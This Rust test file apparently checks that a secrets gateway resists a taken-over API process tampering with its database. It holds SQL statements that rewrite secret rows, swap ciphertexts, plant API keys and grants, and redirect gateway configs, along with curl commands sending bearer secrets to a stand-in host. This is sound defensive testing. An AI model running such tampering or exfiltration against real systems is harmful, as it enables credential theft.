//! The API's process taken over: it writes its own database as it likes, live, and an agent tries to profit. Each attempt has a secret of its own.

use anyhow::Context;

use super::Channel::TakenOver;
use super::{Attempt, outside};
use crate::scene::{Scene, obtained};
use crate::shell::is_there;

pub(super) const ATTEMPTS: &[Attempt] = &[
    outside("the row says another kind", TakenOver, 31, |scene| {
        changed(scene, "PLANT_KIND", "UPDATE secrets SET kind = 'openai_api_key' WHERE name = 'PLANT_KIND'", "PLANT_KIND")
    }),
    outside("the row says another name", TakenOver, 31, |scene| {
        changed(scene, "PLANT_NAME", "UPDATE secrets SET name = 'OPENAI_API_KEY' WHERE name = 'PLANT_NAME'", "OPENAI_API_KEY")
    }),
    outside("the row says another version", TakenOver, 28, |scene| {
        changed(scene, "PLANT_VERSION", "UPDATE secrets SET version = version + 1 WHERE name = 'PLANT_VERSION'", "PLANT_VERSION")
    }),
    outside("the row says another id", TakenOver, 28, |scene| {
        changed(scene, "PLANT_ID", "UPDATE secrets SET id = substr(id, 1, length(id) - 1) || 'a' WHERE name = 'PLANT_ID'", "PLANT_ID")
    }),
    outside("the ciphertext has a bit changed", TakenOver, 28, |scene| {
        changed(
            scene,
            "PLANT_BIT",
            "UPDATE ciphertexts SET ciphertext = CAST(X'00' || substr(ciphertext, 2) AS BLOB) WHERE number = (SELECT ciphertext FROM secrets WHERE name = 'PLANT_BIT')",
            "PLANT_BIT",
        )
    }),
    outside("the data key's signature is another", TakenOver, 31, |scene| {
        changed(
            scene,
            "PLANT_KEY",
            "INSERT INTO data_keys (id, suite, recipient, encapsulated, ciphertext, created, signer, signature) SELECT substr(id, 1, length(id) - 1) || 'b', suite, recipient, encapsulated, ciphertext, created, signer, randomblob(64) FROM data_keys WHERE id = (SELECT data_key FROM secrets WHERE name = 'PLANT_KEY'); UPDATE secrets SET data_key = substr(data_key, 1, length(data_key) - 1) || 'b' WHERE name = 'PLANT_KEY'",
            "PLANT_KEY",
        )
    }),
    outside("two secrets' ciphertexts are swapped", TakenOver, 28, swapped),
    outside("the row is moved to another account", TakenOver, 31, moved),
    outside("the row is copied into another account", TakenOver, 31, copied),
    outside("a row rolled back to an older version", TakenOver, 28, rolled_back),
    outside("a deleted row put back", TakenOver, 28, put_back),
    outside("an API key that nobody made", TakenOver, 31, planted_key),
    outside("a gateway config that leads elsewhere", TakenOver, 31, planted_config),
    outside("a binding that nobody made", TakenOver, 31, planted_binding),
    outside("an exposure that nobody made", TakenOver, 31, planted_exposure),
    outside("a grant that nobody made", TakenOver, 31, planted_grant),
];

const BOUND: &str = "api.github.com";
const UNBOUND: &str = "allowed.example.com";

/// Stores a secret, lets the gateway see it, changes the database, and uses it towards a host that it is not bound to, and towards its own.
fn changed(scene: &Scene<'_>, name: &str, sql: &str, then: &str) -> anyhow::Result<Vec<u8>> {
    scene.store(name, &scene.values.spare)?;
    change(scene, sql)?;
    use_both(scene, then, None)
}

fn change(scene: &Scene<'_>, sql: &str) -> anyhow::Result<()> {
    let database = scene.store_database()?;
    database.execute_batch(sql).context("failed to change the store")?;
    anyhow::ensure!(database.total_changes() > 0, "nothing was changed in the store");
    Ok(())
}

fn use_both(scene: &Scene<'_>, name: &str, key: Option<&str>) -> anyhow::Result<Vec<u8>> {
    let mut out = scene.use_secret(name, UNBOUND, key)?;
    out.extend(scene.use_secret(name, BOUND, key)?);
    Ok([obtained(&out), out].concat())
}

fn swapped(scene: &Scene<'_>) -> anyhow::Result<Vec<u8>> {
    scene.store("PLANT_SWAP", &scene.values.spare)?;
    scene.store("PLANT_FREE", "https-only-value-of-the-agent")?;
    scene.server.expect(&["bind", "PLANT_FREE", "--host", UNBOUND], b"")?;
    change(
        scene,
        "UPDATE secrets SET ciphertext = (SELECT ciphertext FROM secrets WHERE name = 'PLANT_SWAP'), data_key = (SELECT data_key FROM secrets WHERE name = 'PLANT_SWAP') WHERE name = 'PLANT_FREE'",
    )?;
    scene.use_secret("PLANT_FREE", UNBOUND, None)
}

fn moved(scene: &Scene<'_>) -> anyhow::Result<Vec<u8>> {
    let key = scene.stranger("mover")?;
    scene.store("PLANT_MOVED", &scene.values.spare)?;
    change(scene, "UPDATE secrets SET account = (SELECT id FROM accounts WHERE name = 'mover') WHERE name = 'PLANT_MOVED'")?;
    use_both(scene, "PLANT_MOVED", Some(&key))
}

fn copied(scene: &Scene<'_>) -> anyhow::Result<Vec<u8>> {
    let key = scene.stranger("copier")?;
    scene.store("PLANT_COPIED", &scene.values.spare)?;
    change(
        scene,
        "INSERT INTO secrets (id, account, name, version, kind, created, updated, data_key, ciphertext)
         SELECT substr(id, 1, length(id) - 1) || 'b', (SELECT id FROM accounts WHERE name = 'copier'), name, version, kind, created, updated, data_key, ciphertext
         FROM secrets WHERE name = 'PLANT_COPIED'",
    )?;
    use_both(scene, "PLANT_COPIED", Some(&key))
}

/// Keeps what a secret's row needs, to be put back later over the same connection.
const KEEP: &str = "
    CREATE TEMP TABLE kept_secret AS SELECT * FROM secrets WHERE name = 'NAME';
    CREATE TEMP TABLE kept_text AS SELECT * FROM ciphertexts WHERE number = (SELECT ciphertext FROM kept_secret);
    CREATE TEMP TABLE kept_key AS SELECT * FROM data_keys WHERE id = (SELECT data_key FROM kept_secret);";
const PUT_BACK: &str = "
    REPLACE INTO data_keys SELECT * FROM kept_key;
    REPLACE INTO ciphertexts SELECT * FROM kept_text;
    REPLACE INTO secrets SELECT * FROM kept_secret;";

/// The gateway has seen the newer one: the older one must not leave again.
fn rolled_back(scene: &Scene<'_>) -> anyhow::Result<Vec<u8>> {
    let name = "PLANT_OLD";
    scene.store(name, &scene.values.old)?;
    let database = scene.store_database()?;
    database.execute_batch(&KEEP.replace("NAME", name))?;
    scene.store(name, &scene.values.spare)?;
    let fresh = scene.use_secret(name, BOUND, None)?;
    database.execute_batch(PUT_BACK).context("failed to put the older row back")?;
    let mark = scene.upstream.records().len();
    let shown = scene.use_secret(name, BOUND, None)?;
    // What the host received of the older value has left.
    let arrived = scene.upstream.records().into_iter().skip(mark).filter(|record| record.holds(&scene.values.old));
    let arrived: Vec<u8> = arrived.flat_map(|record| record.bytes).collect();
    Ok([fresh, shown, arrived].concat())
}

fn put_back(scene: &Scene<'_>) -> anyhow::Result<Vec<u8>> {
    let name = "PLANT_GONE";
    scene.store(name, &scene.values.rotated)?;
    let fresh = scene.use_secret(name, BOUND, None)?;
    let database = scene.store_database()?;
    database.execute_batch(&KEEP.replace("NAME", name))?;
    scene.server.expect(&["secret", "delete", name], b"")?;
    database.execute_batch(PUT_BACK).context("failed to put the deleted row back")?;
    Ok([fresh, scene.use_secret(name, UNBOUND, None)?].concat())
}

fn planted_key(scene: &Scene<'_>) -> anyhow::Result<Vec<u8>> {
    scene.store("PLANT_OWNED", &scene.values.spare)?;
    // The hash of a key that the taken-over API thought of, beside a mark that it copied.
    let key = format!("tlk_{}", "p".repeat(43));
    let hash = rustls_hash(&key);
    change(
        scene,
        &format!(
            "INSERT INTO api_keys (id, account, hash, scopes, created, mac)
             SELECT 'key_000000000000000000002', account, X'{hash}', scopes, created, mac FROM api_keys WHERE account = (SELECT account FROM secrets WHERE name = 'PLANT_OWNED') LIMIT 1"
        ),
    )?;
    use_both(scene, "PLANT_OWNED", Some(&key))
}

/// SHA-256, in hexadecimal, by the library that the proof's TLS has.
fn rustls_hash(text: &str) -> String {
    let digest = aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, text.as_bytes());
    digest.as_ref().iter().map(|byte| format!("{byte:02x}")).collect()
}

fn planted_config(scene: &Scene<'_>) -> anyhow::Result<Vec<u8>> {
    anyhow::ensure!(is_there("curl"), "curl is not there");
    scene.store("PLANT_PAIRED", &scene.values.spare)?;
    scene.server.expect(&["gateway-config", "create", "honest", "--endpoint", "https://api.github.com/"], b"")?;
    let id = scene.server.expect(&["devbox", "create", "--gateway", "G=honest:PLANT_PAIRED"], b"")?;
    let id = id.trim();
    change(
        scene,
        "UPDATE gateway_configs SET endpoint = replace(endpoint, 'api.github.com', 'allowed.example.com') WHERE name = 'honest'",
    )?;
    let shown = scene.shown(&["devbox", "exec", id, "--", "curl -sSi -m 5 \"$G_URL/echo\" -H \"Authorization: Bearer $G\""], "")?;
    scene.shown(&["devbox", "shutdown", id], "")?;
    Ok(shown)
}

/// The ledger's bindings carry a MAC that only the gateway can make.
fn planted_binding(scene: &Scene<'_>) -> anyhow::Result<Vec<u8>> {
    scene.store("PLANT_BOUND", &scene.values.spare)?;
    scene.server.expect(&["bind", "PLANT_BOUND", "--host", BOUND], b"")?;
    let id: String = scene.store_database()?.query_row("SELECT id FROM secrets WHERE name = 'PLANT_BOUND'", [], |row| row.get(0))?;
    let changed = scene
        .ledger_database()?
        .execute("UPDATE bindings SET binding = replace(binding, 'api.github.com', 'allowed.example.com') WHERE secret = ?1", [id])?;
    anyhow::ensure!(changed == 1, "no binding was changed");
    use_both(scene, "PLANT_BOUND", None)
}

fn planted_exposure(scene: &Scene<'_>) -> anyhow::Result<Vec<u8>> {
    scene.store("PLANT_EXPOSED", &scene.values.spare)?;
    let (id, account): (String, String) =
        scene
            .store_database()?
            .query_row("SELECT id, account FROM secrets WHERE name = 'PLANT_EXPOSED'", [], |row| Ok((row.get(0)?, row.get(1)?)))?;
    scene.ledger_database()?.execute(
        "INSERT OR REPLACE INTO exposures (secret, account, plain, created, mac) VALUES (?1, ?2, 1, 1, randomblob(32))",
        [id, account],
    )?;
    let made = scene.shown(&["devbox", "create", "--secret", "PLANT_EXPOSED"], "")?;
    let text = String::from_utf8_lossy(&made).trim().to_owned();
    let shown = scene.shown(&["devbox", "exec", &text, "--", "env"], "")?;
    Ok([made, shown].concat())
}

/// A token of the agent's own choosing, written into the ledger for a secret of somebody else's.
fn planted_grant(scene: &Scene<'_>) -> anyhow::Result<Vec<u8>> {
    anyhow::ensure!(is_there("curl"), "curl is not there");
    scene.store("PLANT_GRANTED", &scene.values.spare)?;
    let id: String = scene.store_database()?.query_row("SELECT id FROM secrets WHERE name = 'PLANT_GRANTED'", [], |row| row.get(0))?;
    let (devbox, token) = scene.lasting("NARROW_TOKEN", None)?;
    let changed = scene.ledger_database()?.execute("UPDATE grants SET secret = ?1 WHERE devbox = ?2", [&id, &devbox])?;
    anyhow::ensure!(changed >= 1 && !token.is_empty(), "no grant was changed");
    let line = "for h in api.github.com allowed.example.com narrow.example.com/narrow; do curl -sSi -m 5 https://$h/echo -H \"Authorization: Bearer $NARROW_TOKEN\" -H \"X-Attempt: with somebody else's token or key\"; done";
    let shown = scene.shown(&["devbox", "exec", &devbox, "--", line], "")?;
    scene.shown(&["devbox", "shutdown", &devbox], "")?;
    Ok(shown)
}
